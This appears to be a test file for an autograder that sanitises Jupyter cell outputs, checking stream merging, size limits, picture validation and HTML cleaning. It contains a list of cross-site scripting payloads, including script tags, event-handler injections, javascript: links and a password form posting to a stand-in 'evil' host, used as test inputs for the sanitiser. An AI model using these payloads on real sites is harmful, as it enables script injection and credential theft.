"""What a cell leaves in the graded notebook: merged, capped, nothing active, whatever came."""

import base64
import json
import unicodedata
from html.parser import HTMLParser

import nbformat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from autograder import outputs as module
from autograder.outputs import MAX_OUTPUTS, Outputs

PNG = base64.b64encode(b"\x89PNG picture").decode()


def collect(*messages, limit=10_000):
    found = []
    outputs = Outputs(found, limit)
    for kind, content in messages:
        outputs.add({"msg_type": kind, "content": content})
    return found


def stream(text, name="stdout"):
    return "stream", {"name": name, "text": text}


def display(kind="display_data", **data):
    return kind, {"data": {name.replace("_", "/"): value for name, value in data.items()}}


def all_text(found):
    return "".join(
        output.get("text", "") + "".join(output.get("data", {}).values()) for output in found
    )


def assert_can_be_written(found):
    cell = nbformat.v4.new_code_cell(outputs=found)
    notebook = nbformat.v4.new_notebook(cells=[cell])
    nbformat.validate(notebook)
    nbformat.writes(notebook).encode()


# -- streams ----------------------------------------------------------------------------------


def test_pieces_of_one_stream_are_one_output():
    found = collect(stream("a"), stream("b"), stream("c", "stderr"), stream("d"))
    assert [(o.name, o.text) for o in found] == [("stdout", "ab"), ("stderr", "c"), ("stdout", "d")]


def test_a_picture_between_two_prints_keeps_its_place():
    found = collect(stream("a"), display(image_png=PNG), stream("b"))
    assert [o.output_type for o in found] == ["stream", "display_data", "stream"]


def test_an_unknown_stream_is_taken_for_stdout():
    assert collect(stream("a", "elsewhere"))[0].name == "stdout"


def test_clearing_the_output_clears_it():
    assert all_text(collect(stream("a"), ("clear_output", {"wait": False}), stream("b"))) == "b"


def test_an_empty_text_leaves_nothing():
    assert collect(stream("")) == []


@given(st.lists(st.text(max_size=40), max_size=20), st.integers(0, 100))
def test_text_is_kept_up_to_the_limit_and_the_cut_is_told_once(texts, limit):
    """in bytes of the notebook's file; of control characters, only those of terminals are kept"""
    whole = "".join(
        "�" if unicodedata.category(c) == "Cc" and c not in "\n\t\r\b\x1b" else c
        for c in "".join(texts)
    )
    kept = all_text(collect(*map(stream, texts), limit=limit))
    size = len(whole.encode()) + 5 * whole.count("\x1b")
    assert kept.count("cut by the grader") == (size > limit)
    text = kept.partition("\n[… cut by")[0]
    assert whole.startswith(text)
    assert len(text.encode()) <= limit
    if size > limit:
        assert len(text) >= limit // 6 - 1


def test_the_limit_counts_streams_tables_and_tracebacks_together():
    found = collect(
        stream("a" * 50),
        display(text_html="b" * 50),
        ("error", {"ename": "E", "evalue": "", "traceback": ["c" * 50]}),
        limit=80,
    )
    assert "a" * 50 in found[0].text
    assert found[1].data["text/html"].count("b") == 30 + "[… cut by the grader".count("b")
    assert "c" * 10 not in json.dumps(found)


@pytest.mark.parametrize("message", [stream("x"), display(text_plain="x"), ("error", {})])
def test_the_number_of_outputs_is_capped(message):
    between = [message, display(text_plain="y")] * (2 * MAX_OUTPUTS)
    assert len(collect(*between, limit=10**6)) == MAX_OUTPUTS


# -- pictures ---------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["image_png", "image_jpeg"])
@pytest.mark.parametrize("picture", [PNG, PNG + "\n", PNG[:8] + "\n" + PNG[8:]])
def test_pictures_are_kept(kind, picture):
    [output] = collect(display(**{kind: picture}))
    assert output.data == {kind.replace("_", "/"): picture}


@pytest.mark.parametrize(
    "picture",
    [
        '"><script>alert(1)</script>',
        PNG + '" onerror="alert(1)',
        "data:text/html,x",
        "\ud800",
        "é",
        "abc",
        5,
        None,
        [PNG],
        {"a": PNG},
    ],
    ids=repr,
)
def test_what_is_not_base64_is_no_picture(picture):
    [output] = collect(display(image_png=picture, text_plain="<Figure>"))
    assert output.data == {"text/plain": "<Figure>"}


def test_a_cells_pictures_together_are_capped(monkeypatch):
    monkeypatch.setattr(module, "MAX_IMAGE", 3 * len(PNG))
    found = collect(*[display(image_png=PNG, text_plain="x")] * 5)
    assert ["image/png" in output.data for output in found] == [True] * 3 + [False] * 2


# -- html -------------------------------------------------------------------------------------


class Parsed(HTMLParser):
    """The elements and attributes of a piece of HTML."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes = set(), []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        self.attributes += attributes


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvA\tscript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil><input name=password></form>",
    "<style>body { display: none }</style>",
    "<p style='position: fixed; inset: 0'>100 points</p>",
    "<meta http-equiv=refresh content='0;url=//evil'><base href=//evil>",
    "<math><mtext></p><mglyph><svg><mtext><style><img src=x onerror=alert(1)></style>",
    "<object data='data:text/html,x'></object><embed src=x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div onclick=alert(1) contenteditable autofocus onfocus=alert(1)>x</div>",
    "<script",
]
ACTIVE = {"script", "style", "svg", "math", "iframe", "form", "input", "object", "embed", "meta"}


def assert_harmless(html):
    parsed = Parsed(html)
    assert not parsed.tags & (ACTIVE | {"base", "link"})
    for name, value in parsed.attributes:
        assert not name.startswith("on") and name not in ("style", "srcdoc", "action", "formaction")
        assert not (value or "").strip().lower().startswith(("javascript:", "data:", "vbscript:"))


@pytest.mark.parametrize("html", ATTACKS)
@pytest.mark.parametrize("kind", ["display_data", "execute_result"])
def test_html_is_sanitised(html, kind):
    for output in collect(display(kind, text_html=f"<b>x</b>{html}<i>y</i>")):
        assert_harmless(output.data["text/html"])
        assert "<b>x</b>" in output.data["text/html"]


@given(st.lists(st.sampled_from(ATTACKS) | st.text("<>\"'/=& ab", max_size=8), max_size=4))
def test_html_of_any_pieces_is_sanitised(pieces):
    for output in collect(display(text_html="".join(pieces))):
        assert_harmless(output.data["text/html"])


def test_html_that_is_cut_in_the_middle_is_sanitised_after_the_cut():
    attack = "<p>x</p>" * 3 + "<img src=x onerror=alert(1)>"
    for limit in range(len(attack)):
        for output in collect(display(text_html=attack), limit=limit):
            assert_harmless(output.data["text/html"])


def test_a_table_stays_a_table():
    table = "<table><tbody><tr><td>1</td></tr></tbody></table>"
    assert collect(display(text_html=table))[0].data["text/html"] == table


@pytest.mark.parametrize(
    "kind",
    [
        *("application/javascript", "image/svg+xml", "text/latex", "text/markdown", "text/x"),
        *("application/vnd.jupyter.widget-view+json", "application/json", "TEXT/HTML", "", "x"),
    ],
)
def test_other_kinds_are_dropped(kind):
    found = collect(
        ("display_data", {"data": {kind: "<script>alert(1)</script>", "text/plain": "x"}})
    )
    assert [output.data for output in found] == [{"text/plain": "x"}]
    assert collect(("display_data", {"data": {kind: "alert(1)"}})) == []


def test_metadata_of_an_output_is_dropped():
    message = {"data": {"text/plain": "x"}, "metadata": {"text/html": "<script>"}, "transient": {}}
    assert collect(("display_data", message))[0].metadata == {}


# -- whatever comes ---------------------------------------------------------------------------

ANY_TEXT = st.text(st.characters(exclude_categories=()), max_size=20)  # with lone surrogates
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | ANY_TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(ANY_TEXT, inner, max_size=3),
    max_leaves=6,
)
MIMES = ["text/plain", "text/html", "image/png", "image/jpeg", "image/svg+xml"]
FIELDS = {
    "name": st.sampled_from(["stdout", "stderr"]) | JSON,
    "text": ANY_TEXT | JSON,
    "data": st.dictionaries(st.sampled_from(MIMES), ANY_TEXT | st.just(PNG) | JSON) | JSON,
    "metadata": JSON,
    "ename": ANY_TEXT | JSON,
    "evalue": ANY_TEXT | JSON,
    "traceback": st.lists(ANY_TEXT | JSON, max_size=3) | JSON,
    "execution_count": JSON,
    "wait": JSON,
}
KINDS = ["stream", "display_data", "execute_result", "error", "clear_output", "comm_open", ""]
MESSAGES = st.tuples(st.sampled_from(KINDS) | ANY_TEXT, st.fixed_dictionaries({}, optional=FIELDS))


@settings(max_examples=250)
@given(st.lists(MESSAGES, max_size=5), st.integers(0, 60))
def test_no_message_raises_and_what_is_left_can_be_written_as_a_notebook(messages, limit):
    assert_can_be_written(collect(*messages, limit=limit))


def test_lone_surrogates_are_replaced_wherever_they_are():
    bad = "\ud800"
    found = collect(
        stream(bad),
        display(text_html=bad, text_plain=bad),
        ("error", {"ename": bad, "evalue": bad, "traceback": [bad]}),
    )
    assert len(found) == 3
    assert_can_be_written(found)


def test_an_error_has_its_name_its_words_and_its_traceback():
    [output] = collect(
        ("error", {"ename": "ValueError", "evalue": "no", "traceback": ["line 1", "line 2"]})
    )
    assert (output.ename, output.evalue) == ("ValueError", "no")
    assert output.traceback == ["line 1\nline 2"]


def test_an_errors_name_and_words_are_cut():
    [output] = collect(("error", {"ename": "E" * 10**5, "evalue": "v" * 10**5}))
    assert len(json.dumps(output)) < 10_000


@pytest.mark.parametrize("page", ["<a>" * 20_000, "&" * 60_000, "<b><p>" * 10_000, "<div>" * 3000])
def test_html_that_grows_while_it_is_cleaned_stays_within_the_limit(page):
    """closing tags, and & written out: ten times as much"""
    found = collect(*[display(text_html=page, text_plain="x")] * 20, limit=100_000)
    assert found
    assert len(json.dumps(found)) < 200_000
